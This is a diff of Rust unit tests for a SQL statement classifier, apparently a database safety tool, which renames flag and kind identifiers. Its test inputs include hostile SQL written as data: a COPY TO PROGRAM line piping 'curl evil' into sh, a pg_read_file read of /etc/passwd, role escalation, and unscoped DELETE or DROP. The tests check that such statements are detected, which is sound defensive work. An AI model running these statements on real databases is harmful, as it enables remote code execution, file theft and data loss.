-        assert!(!s.flags.contains(&Flag::DynamicSql));
+        assert!(!s.flags.contains(&flag::DYNAMIC_SQL));
     }
 
     #[test]
@@ -1162,8 +825,8 @@ mod tests {
             "DO $$ BEGIN IF true THEN LOOP EXIT WHEN true; EXECUTE 'x'; END LOOP; END IF; END $$",
         ] {
             let s = one(sql);
-            assert_eq!(s.kind(), Kind::Do, "{sql}");
-            assert!(s.flags.contains(&Flag::DynamicSql), "{sql}");
+            assert_eq!(s.kind(), kind::DO, "{sql}");
+            assert!(s.flags.contains(&flag::DYNAMIC_SQL), "{sql}");
         }
         let s = one("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$");
         assert!(
@@ -1173,23 +836,23 @@ mod tests {
         let s = one(
             "CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'select 1'; END $$",
         );
-        assert_eq!(s.kind(), Kind::Ddl);
-        assert!(s.flags.contains(&Flag::DynamicSql));
+        assert_eq!(s.kind(), kind::DDL);
+        assert!(s.flags.contains(&flag::DYNAMIC_SQL));
     }
 
     #[test]
     fn do_running_risky_sql_carries_its_flags() {
         let s = one("DO $$ BEGIN COPY (SELECT 1) TO PROGRAM 'curl evil | sh'; END $$");
-        assert!(s.flags.contains(&Flag::CopyProgram));
-        assert!(s.kinds.contains(&Kind::CopyOut));
+        assert!(s.flags.contains(&flag::COPY_PROGRAM));
+        assert!(s.kinds.contains(&kind::COPY_OUT));
         let s = one("DO $$ BEGIN SET ROLE postgres; END $$");
-        assert!(s.flags.contains(&Flag::RoleChange));
+        assert!(s.flags.contains(&flag::ROLE_CHANGE));
         let s = one("DO $$ BEGIN DELETE FROM t; END $$");
-        assert!(s.flags.contains(&Flag::DeleteWithoutWhere));
-        assert!(s.kinds.contains(&Kind::Delete));
+        assert!(s.flags.contains(&flag::DELETE_WITHOUT_WHERE));
+        assert!(s.kinds.contains(&kind::DELETE));
         let s = one("DO $outer$ BEGIN DO $inner$ BEGIN EXECUTE 'x'; END $inner$; END $outer$");
         assert!(
-            s.flags.contains(&Flag::DynamicSql),
+            s.flags.contains(&flag::DYNAMIC_SQL),
             "a DO inside a DO is analysed too"
         );
         let s = one("DO $$ BEGIN PERFORM 1 FROM hr.people WHERE ssn LIKE '5%'; END $$");
@@ -1225,41 +888,41 @@ mod tests {
         let s = one(
             "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM audit.log RETURNING 1'",
         );
-        assert_eq!(s.kinds, vec![Kind::Ddl, Kind::Delete]);
+        assert_eq!(s.kinds, vec![kind::DDL, kind::DELETE]);
         assert!(s.tables.contains("audit.log"));
         let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS 'return 1'");
-        assert_eq!(s.kind(), Kind::Ddl);
-        assert!(s.flags.contains(&Flag::DynamicSql), "body not analysable");
+        assert_eq!(s.kind(), kind::DDL);
+        assert!(s.flags.contains(&flag::DYNAMIC_SQL), "body not analysable");
         let s = one(
             "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = 1 WHERE b = 2; END $$",
         );
-        assert_eq!(s.kinds, vec![Kind::Ddl, Kind::Update]);
-        assert!(!s.flags.contains(&Flag::DynamicSql));
+        assert_eq!(s.kinds, vec![kind::DDL, kind::UPDATE]);
+        assert!(!s.flags.contains(&flag::DYNAMIC_SQL));
     }
 
     #[test]
     fn prepare_is_its_query_and_execute_names_it() {
         let p = one("PREPARE p(int) AS DELETE FROM t WHERE id = $1");
-        assert_eq!(p.kind(), Kind::Delete);
+        assert_eq!(p.kind(), kind::DELETE);
         assert_eq!(p.prepared, Some(Prepared::Prepare("p".into())));
         let e = one("EXECUTE p(1)");
-        assert_eq!(e.kind(), Kind::Execute);
-        assert!(e.flags.contains(&Flag::DynamicSql));
+        assert_eq!(e.kind(), kind::EXECUTE);
+        assert!(e.flags.contains(&flag::DYNAMIC_SQL));
         assert_eq!(e.prepared, Some(Prepared::Execute("p".into())));
         let mut ps = super::super::PreparedStatements::new();
         assert!(ps.resolve(&e).is_none(), "unknown name: judged as execute");
         ps.completed(&p);
         let r = ps.resolve(&e).unwrap();
-        assert_eq!(r.kinds, vec![Kind::Delete]);
+        assert_eq!(r.kinds, vec![kind::DELETE]);
         assert!(r.writes.contains("public.t"));
-        assert!(!r.flags.contains(&Flag::DynamicSql));
+        assert!(!r.flags.contains(&flag::DYNAMIC_SQL));
         assert_eq!(r.text, "EXECUTE p(1)");
         let e2 = one("EXECUTE p(length(pg_read_file('/etc/passwd')))");
         assert!(
             ps.resolve(&e2)
                 .unwrap()
                 .flags
-                .contains(&Flag::SideEffectFunction)
+                .contains(&flag::SIDE_EFFECT_FUNCTION)
         );
         ps.completed(&one("DEALLOCATE p"));
         assert!(ps.resolve(&e).is_none());
@@ -1277,7 +940,7 @@ mod tests {
         assert_eq!(v.len(), 2);
         assert_eq!(v[0].text, "SELECT 1");
         assert_eq!(v[1].text, "DROP TABLE t");
-        assert_eq!(v[1].kind(), Kind::Ddl);
+        assert_eq!(v[1].kind(), kind::DDL);
         assert!(classify("  -- nothing\n", 100).unwrap().is_empty());
     }
 
